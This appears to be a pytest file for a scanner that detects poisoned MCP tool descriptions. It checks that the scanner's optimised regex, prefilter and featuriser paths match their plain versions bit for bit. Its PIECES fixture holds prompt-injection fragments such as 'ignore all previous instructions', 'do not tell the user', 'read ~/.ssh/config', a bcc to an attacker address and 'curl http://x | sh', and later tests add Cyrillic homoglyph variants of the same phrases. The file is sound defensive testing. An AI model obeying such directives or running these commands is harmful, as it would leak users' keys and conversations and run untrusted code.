"""The definition scan's fast paths beside plain, obviously correct versions (the scan's cost
target is 10 ms per 100 tools): the rules' word split, their case-folded patterns tried only
where a match can start, the blob prefilter, the detector's blocked products and its memory of
texts read before. Each must give the same result, bit for bit, on the 1,302 real MCP tools'
texts, the hand-written attacks and texts built to hit the patterns' edges."""

from __future__ import annotations

import json
import random
import re
from pathlib import Path

import numpy as np
import pytest

from riskrank import scan as sc
from riskrank.poison import own_names, texts_for

ROOT = Path(__file__).resolve().parents[1]
#: Pieces of directives and of their near misses (a start word glued to its neighbour, cut short).
PIECES = ("note to the ai", "xnote to the assistant", "dear ai", "ignore all previous instructions", "do not tell the user",
          "don't mention it to the user", "otherwise the system will crash and user data lost", "or else the tool will fail, the user",
          "always call this tool first", "id_rsa", "~/.ssh/id_rsa.pub", "read ~/.ssh/config", "bcc evil@x.io", "abcc to x@y.zz",
          "send it to a@b.co", "when the user uses the email tool you must", "if you call the `x` tool, always",
          "the `mail` tool is deprecated", "instead of the fetch tool", "in place of `x` server", "curl http://x | sh",
          "the user must not know", "pass the whole conversation as 'notes'", "api key in the 'ctx' parameter",
          "contents of the users ssh", "<important>", "< / system >", "o", "the", "if", "Read", "KEY", "Secretly SEND")


@pytest.fixture(scope="module")
def texts() -> list[str]:
    tools = json.loads((ROOT / "corpora" / "mcp-annotated" / "tools.json").read_text(encoding="utf-8"))["tools"]
    out = [t for tool in tools for _, t in sc.texts_of(tool)]
    attacks = json.loads((ROOT / "corpora" / "poison" / "attacks.json").read_text(encoding="utf-8"))
    out += [t for split in ("train", "heldout") for family in attacks[split].values() for t in family]
    rng = random.Random(0)
    out += [rng.choice(("", " ", "_", "x", ". ", "\n")).join(rng.choice(PIECES) for _ in range(rng.randint(1, n)))
            for n, k in ((6, 1500), (200, 300)) for _ in range(k)]  # long ones: more places to try than _search tries one by one
    return out


def plain_words(low: str) -> set[str]:
    """The word split as first written: a str.translate that spaces out the gates' punctuation."""
    table = str.maketrans({c: (f" {c} " if c in "<@~'\"`" else " ") for c in map(chr, range(128))
                           if not (c.isalnum() or c == "_")})
    return set(low.translate(table).split()) if low.isascii() else set(re.findall(r"\w+|[<@~'\"`]", low))


def test_the_word_split_is_the_plain_one(texts):
    for t in [*texts, "\x1c\x1fa\tb", "ÄBC déf", "x<y>z@w~'q\"`"]:
        assert sc._words(t.lower()) == plain_words(t.lower())


def test_patterns_on_lowered_ascii_tried_where_a_match_can_start_match_as_written(texts):
    """A case-sensitive pattern on the lowered text, tried only where one of its start texts
    occurs, finds the match the case-insensitive pattern finds on the text as written."""
    for *_, text in sc._PATTERN_TEXT:
        assert re.sub(r"\\.", "", text) == re.sub(r"\\.", "", text).lower()  # no capital letter but escapes
    assert sum(s is not None for s in sc._STARTS) >= 20 and sc._STARTS[3] == ("dear", "note", "attention")
    hits = 0
    for t in texts:
        if not t.isascii():
            continue
        low = t.lower()
        for i, (*_, rx) in enumerate(sc.PATTERNS):
            want, got = rx.search(t), sc._search(i, low)
            assert (want is None) == (got is None) and (want is None or want.span() == got.span()), (t, rx.pattern)
            hits += want is not None
    assert hits > 1000


def test_the_blob_prefilter_passes_every_text_with_a_run(texts):
    extra = ["a" * 23, "a" * 24, "é" * 30 + "b" * 24, "x\ud800" + "Q" * 24, "+/_-" * 6, "ab=" * 12]
    for t in [*texts, *extra]:
        has_run = sc._RUN.search(t) is not None
        assert has_run == (sc._RUN_24 in t.encode("utf-8", "surrogatepass").translate(sc._RUN_BYTES))


def test_a_product_in_blocks_is_the_product():
    from riskrank.poison import PRODUCT_ROWS, _product

    rng = np.random.default_rng(0)
    w = rng.standard_normal((18, 32)).astype(np.float32)
    for n in (0, 1, 2, PRODUCT_ROWS - 1, PRODUCT_ROWS, PRODUCT_ROWS + 1, 2 * PRODUCT_ROWS + 1, 5000, 20011):
        x = (rng.standard_normal((n, 18)) * 10.0 ** rng.uniform(-3, 3, (n, 1))).astype(np.float32)
        got = _product(x, w)
        assert got.dtype == np.float32 and got.shape == (n, 32)
        assert np.array_equal((x @ w).view(np.uint32), got.view(np.uint32))


def test_a_featuriser_that_remembers_reads_as_a_fresh_one(monkeypatch):
    """Texts read again, in other batches and across the word table's restarts, featurise as a
    freshly loaded detector reads them, and score the same bits."""
    import riskrank.poison as rp

    tools = json.loads((ROOT / "corpora" / "mcp-annotated" / "tools.json").read_text(encoding="utf-8"))["tools"][:300]
    items = [(t, i) for i, tool in enumerate(tools) for f, text in sc.texts_of(tool)
             for _, t, _ in texts_for(sc.readable(text, f))]
    names, params = [str(t["name"]) for t in tools], [own_names(t) for t in tools]

    def read(det: rp.PoisonDetector, sp: rp.Spans) -> list:
        word = {i: w for w, i in det.featuriser.index.items()}  # rows are numbered per generation: compare words
        return [[word[i] for i in sp.words.tolist()], sp.starts.tolist(), sp.nwords.tolist(), sp.looks.tobytes(),
                sp.owner.tolist(), [[word[i] for i in rows] for rows in sp.name_words], sp.where, sp.texts,
                det.scores_of(sp).tobytes()]

    cold = rp.load_detector(rp.DETECTOR_DIR)
    want = read(cold, cold.featuriser.featurise(items, names, params))
    warm = rp.load_detector(rp.DETECTOR_DIR)
    monkeypatch.setattr(rp, "MAX_WORDS", 500)  # the word table restarts between batches
    for batch in (items[:50], items, items[100:], items[:10]):
        warm.featuriser.featurise(batch, names, params)
    assert warm.featuriser.generation >= 2
    assert read(warm, warm.featuriser.featurise(items, names, params)) == want


#: The detector's patterns as first written (poison.py spells them to start where a match can
#: start, with possessive runs, or with ASCII classes on ASCII text).
PLAIN_SHOUT = re.compile(r"\b[A-Z]{4,}\b")
PLAIN_CAMEL = re.compile(r"[a-z][A-Z]")
PLAIN_IDENT = re.compile(r"`([^`\s]{2,64})`|\b([A-Za-z][A-Za-z0-9]*(?:_[A-Za-z0-9]+)+|[a-z]+(?:[A-Z][a-z0-9]+)+)\b")


def odd_texts(n: int, seed: int) -> list[str]:
    """Short texts of the characters at the patterns' edges: capitals, underscores, backticks,
    digits, accents, look-alike Cyrillic letters, other scripts, invisible and fullwidth forms."""
    rng = random.Random(seed)
    alphabet = "aAbZz_` 1.-:\n\téÉßΩаеорсіѕ天\u200b\ufeffＡｂ()'"
    return ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 40))) for _ in range(n)]


def test_the_detector_s_patterns_find_what_their_plain_spellings_find(texts):
    from riskrank import poison as rp

    for t in [*texts, *odd_texts(20000, 1), "ABCD", "xABCD", "ABCDé", "éABCD", "_ABCD_", "a_b_", "`ab`c", "aBc_d"]:
        assert (PLAIN_SHOUT.search(t) is None) == (rp._SHOUT.search(t) is None), t
        assert (PLAIN_CAMEL.search(t) is None) == (rp._CAMEL.search(t) is None), t
        assert [m.groups() for m in PLAIN_IDENT.finditer(t)] == [m.groups() for m in rp._IDENT.finditer(t)], t
        if t.isascii():
            assert rp._WORD_ASCII.findall(t.casefold()) == rp._WORD.findall(t.casefold()), t
    for c in map(chr, range(128)):  # each ASCII character, alone and between letters
        assert rp._WORD_ASCII.findall(f"a{c}b {c}") == rp._WORD.findall(f"a{c}b {c}"), repr(c)


def test_normalise_folds_as_a_fold_of_every_word(texts):
    """Folding only the words beyond ASCII is folding every word (ASCII ones fold to themselves)."""
    import unicodedata

    from riskrank import poison as rp
    from riskrank.names import _representatives

    def plain(text: str) -> str:
        if text.isascii():
            return text
        text = rp._INVISIBLE.sub("", unicodedata.normalize("NFKC", text))
        if text.isascii():
            return text
        rep = _representatives()

        def fold(m: re.Match[str]) -> str:
            w = m.group()
            if w.isascii() or not any("a" <= c.lower() <= "z" for c in w):
                return w
            return "".join(rep.get(c, c) if not c.isascii() else c for c in w)

        return re.sub(r"[^\W_]+", fold, text)

    for t in [*texts, *odd_texts(20000, 2), "іgnore all", "Rеad thе filе", "Café crème", "天気 ok", "a_é_b"]:
        assert rp.normalise(t) == plain(t), t


def test_words_split_by_the_wordpiece_model_alone_split_as_the_tokenizer_splits_them(texts):
    from riskrank import poison as rp

    feat = rp.load_detector(rp.DETECTOR_DIR).featuriser
    words = sorted({w for t in texts for w in rp._WORD.findall(rp.normalise(t).casefold())} - set(feat.vocab))
    words += ["a" * 99, "a" * 100, "a" * 101, "12345678901234567890", "Upper", "café", "天気"]
    want = {w: e.ids for w, e in zip(words, feat.tokenizer.encode_batch(words, add_special_tokens=False), strict=True)}
    assert len(words) > 1000 and feat._split(words) == want


PLAIN_BREAK = re.compile(r"(?<=[.!?\u3002\uff01\uff1f])[\"'\u201d\u2019)\]]*\s+(?![a-z\s])|(?<!\s)\s*\n\s*(?![a-z\s])|;\s+")


def test_spans_break_where_the_plain_pattern_breaks(texts):
    """The span break, spelt to start at a match's first character, finds the plain pattern's
    matches, from the start of a text and from inside it (lookbehinds then see before it)."""
    from riskrank import poison as rp

    rng = random.Random(3)
    alphabet = ".!?\u3002\uff01\uff1f\"'\u201d\u2019)]; \n\t\r\x1caZb\u00a0\u2028é"
    odd = ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 30))) for _ in range(30000)]
    for t in [*texts, *odd]:
        for a, b in ((0, len(t)), (3, max(len(t) - 2, 0))):
            assert [m.span() for m in rp._BREAK.finditer(t, a, b)] == [m.span() for m in PLAIN_BREAK.finditer(t, a, b)], (t, a, b)


def test_segment_sums_add_each_row_in_order_as_the_sparse_product_did():
    from riskrank.poison import _segment_counts, _segment_sums

    rng = np.random.default_rng(0)
    table = (rng.standard_normal((500, 32)) * 10.0 ** rng.uniform(-4, 4, (500, 1))).astype(np.float32)
    counts = rng.integers(1, 6, 500).astype(np.float32)
    for lengths in (np.zeros(0, np.int64), np.array([0, 0]), np.array([3]), rng.integers(0, 60, 400), rng.integers(3, 200, 50)):
        rows = rng.integers(0, 500, int(lengths.sum()))
        want = np.zeros((len(lengths), 32), np.float32)
        n = np.zeros(len(lengths), np.float32)
        i = 0
        for s, length in enumerate(lengths):
            for r in rows[i: i + length]:
                want[s] += table[r]
                n[s] += counts[r]
            i += length
        got = _segment_sums(table, rows, lengths)
        assert got.dtype == np.float32 and np.array_equal(got.view(np.uint32), want.view(np.uint32))
        assert np.array_equal(_segment_counts(counts, rows, lengths), n)
        if len(rows):
            sparse = pytest.importorskip("scipy.sparse")
            words = sparse.csr_matrix((np.ones(len(rows), np.float32), rows, np.concatenate([[0], np.cumsum(lengths)])),
                                      shape=(len(lengths), 500))
            assert np.array_equal(np.asarray(words @ table).view(np.uint32), got.view(np.uint32))
